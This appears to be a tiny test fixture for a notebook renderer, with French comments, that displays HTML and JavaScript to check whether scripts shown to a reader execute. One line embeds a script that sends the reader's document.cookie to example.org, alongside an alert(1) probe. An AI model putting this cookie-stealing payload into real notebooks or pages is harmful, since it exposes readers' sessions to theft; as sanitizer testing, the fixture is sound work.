# essaie: afficher un script au lecteur
# attendu: total 0
# %% total
from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('https://example.org/?' + document.cookie)</script>"))
display(Javascript("alert(1)"))
total = 0
